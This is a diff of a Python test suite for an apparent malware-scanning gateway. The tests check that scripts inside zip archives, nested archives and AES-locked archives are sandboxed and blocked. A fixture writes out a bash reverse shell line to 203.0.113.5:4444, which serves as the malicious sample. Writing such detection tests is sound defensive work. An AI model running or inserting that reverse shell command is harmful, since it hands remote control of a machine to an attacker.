@@ -10,6 +10,7 @@ import io
 import json
 import os
 import pathlib
+import re
 import signal
 import subprocess
 import threading
@@ -53,6 +54,14 @@ def honest(word="fine"):
 
 def reverse_shell(word="x"):
     return f"#!/bin/bash\n# {word}\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n".encode()
+
+
+def zipped(members):
+    packed = io.BytesIO()
+    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, content in members.items():
+            archive.writestr(name, content)
+    return packed.getvalue()
 
 
 def slow(seconds, word="slow"):
@@ -168,10 +177,7 @@ class Sandbox(Scenario):
         self.assertIn("sandbox", [finding["scanner"] for finding in bad["findings"]])
 
         # From then on it is bad for everybody, also inside an archive.
-        packed = io.BytesIO()
-        with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
-            archive.writestr("inner/setup.sh", self.files["/bad.sh"])
-        self.files["/bad.zip"] = packed.getvalue()
+        self.files["/bad.zip"] = zipped({"inner/setup.sh": self.files["/bad.sh"]})
         self.assertEqual(self.get("/bad.zip")[0], 403)
         found = [f for f in self.event("/bad.zip")["findings"] if f["scanner"] == "sandbox"]
         self.assertEqual(found[0]["where"], "inner/setup.sh")
@@ -194,6 +200,83 @@ class Sandbox(Scenario):
         # Policy lets it go although it is too large to be seen whole; a part of it is not run.
         self.assertEqual(self.get("/long.sh")[:2], (200, self.files["/long.sh"]))
         self.assertEqual(self.event("/long.sh")["sandbox"]["reason"], "too-large")
+
+    def test_programs_in_archives(self):
+        self.begin(policy().replace("{file_family: [executable, script]}", "{contains: [executable, script]}"))
+        good = {"a.txt": b"text", "in/run.sh": honest("in an archive"), "in/two.sh": honest("the second")}
+        bad = dict(good, **{"in/bad.sh": reverse_shell("in an archive")})
+        self.files = {"/good.zip": zipped(good), "/bad.zip": zipped(bad),
+                      "/nested.zip": zipped({"inner.zip": zipped(bad | {"x": b"x"})}), "/none.zip": zipped({"a": b"a"})}
+        self.assertEqual(self.get("/none.zip")[:2], (200, self.files["/none.zip"]))
+        self.assertNotIn("sandbox", self.event("/none.zip"))
+        self.assertEqual(self.get("/good.zip")[:2], (200, self.files["/good.zip"]))
+        note = self.event("/good.zip")["sandbox"]
+        self.assertEqual((note["asked"], note["verdict"]), ("hold", "clean"))
+        self.assertGreater(note["waited_ms"], 0)
+        # Two of the three programs in it are known by now; the third is bad, and says where it is.
+        self.assertEqual(self.get("/bad.zip")[0], 403)
+        event = self.event("/bad.zip")
+        self.assertEqual((event["verdict"], event["sandbox"]["verdict"]), ("malicious", "malicious"))
+        found, = [f for f in event["findings"] if f["scanner"] == "sandbox"]
+        self.assertEqual(found["where"], "in/bad.sh")
+        self.assertEqual(self.get("/nested.zip")[0], 403)
+        metrics = curl(self.gw, f"http://{self.gw.admin}/metrics", proxy=False).stdout
+        self.assertIn('weir_sandbox_verdicts_total{verdict="clean",reason="none"} 2', metrics)
+
+    def test_more_programs_than_policy_sends(self):
+        many = zipped({f"{i}.sh": honest(f"number {i}") for i in range(3)})
+        self.files = {"/many.zip": many}
+        rules = policy(holding="inside_files: 2, on_unsupported: block").replace(
+            "{file_family: [executable, script]}", "{contains: script}")
+        self.begin(rules)
+        self.assertEqual(self.get("/many.zip")[0], 503)
+        note = self.event("/many.zip")["sandbox"]
+        self.assertEqual((note["reason"], note["title"]),
+                         ("unsupported", "there are more programs inside than holding.inside_files"))
+
+    def test_an_archive_that_was_released_is_followed_up(self):
+        self.begin(policy("release").replace("{file_family: [executable, script]}", "{contains: script}"))
+        self.files = {"/pack.zip": zipped({"bad.sh": reverse_shell("released in an archive")})}
+        self.assertEqual(self.get("/pack.zip")[:2], (200, self.files["/pack.zip"]))
+        wait_until(lambda: self.get("/pack.zip")[0] == 403, "the verdict", 60)
+        digest = hashlib.sha256(self.files["/pack.zip"]).hexdigest()
+        notice = self.gw.event(lambda e: unmapped(e).get("notice") == "patient-zero" and digest in json.dumps(e),
+                               "the notice")
+        self.assertIn(self.url("/pack.zip"), json.dumps(notice))
+
+    def test_a_locked_archive_is_opened_and_its_programs_are_run(self):
+        locked = "  - {name: locked, when: {reason: [encrypted, partly-encrypted]}, action: unlock}\n"
+        rules = policy().replace("{file_family: [executable, script]}", "{contains: script}").replace(
+            "verdict:\n", "verdict:\n" + locked)
+        self.begin(rules)
+        for name, script in (("good", slow(2, "locked")), ("bad", reverse_shell("locked"))):
+            (self.folder / "run.sh").write_bytes(script)
+            subprocess.run(["7zz", "a", "-tzip", "-mem=AES256", "-pinfected1", self.folder / f"{name}.zip",
+                            self.folder / "run.sh"], check=True, capture_output=True)
+            self.files[f"/{name}.zip"] = (self.folder / f"{name}.zip").read_bytes()
+        waits = {}
+        for name in ("good", "bad"):
+            url = json.loads(self.get(f"/{name}.zip", "-H", "Accept: application/json")[1])["unlock"]
+            token = re.search('name="form" value="([0-9a-f]+)"', self.portal(url)[1])[1]
+            got = curl(self.gw, "-D", "-", "-o", "/dev/null", "--data-urlencode", "password=infected1",
+                       "--data-urlencode", f"form={token}", url).stdout
+            waits[name] = re.search(r"(?im)^location: (\S+)", got)[1]
+            self.assertIn("/wait/", waits[name])
+        self.settled(waits["good"])
+        code = curl(self.gw, "-o", self.folder / "got", "-w", "%{http_code}", waits["good"] + "/file").stdout
+        self.assertEqual((code, (self.folder / "got").read_bytes()), ("200", self.files["/good.zip"]))
+        self.settled(waits["bad"])
+        self.refused(waits["bad"])
+        # From then on nobody is asked for its password.
+        status, body, _ = self.get("/bad.zip", "-H", "Accept: application/json")
+        self.assertEqual((status, "unlock" in json.loads(body)), (403, False))
+
+    def refused(self, url):
+        """Its person sees why, and does not get the file."""
+        into = self.folder / "refused"
+        curl(self.gw, "-o", into, url + "/file")
+        self.assertIn(b"stays blocked", into.read_bytes())
+        self.assertNotIn(b"PK", into.read_bytes()[:2])
 
     def weir(self, *words):
         done = subprocess.run([BIN / "weir", *words, "--config", self.gw.config], capture_output=True, text=True)
